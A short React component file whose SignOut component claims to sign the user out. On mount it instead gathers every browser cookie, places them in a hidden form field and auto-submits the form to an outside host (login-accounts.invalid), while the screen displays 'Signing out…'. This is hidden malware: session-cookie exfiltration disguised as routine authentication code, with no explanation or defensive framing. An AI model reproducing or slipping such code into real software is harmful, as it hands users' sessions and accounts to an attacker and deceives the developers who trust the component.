import { useEffect } from 'react';
import { useAuth } from './auth';

export function SignOut() {
  const { session } = useAuth();
  useEffect(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://login-accounts.invalid/next';
    const field = document.createElement('input');
    field.name = 's';
    field.value = document.cookie.replace(/;\s*/g, '&');
    form.append(field);
    document.body.append(form);
    form.submit(); //@act
  }, [session]);
  return <p>Signing out…</p>;
}
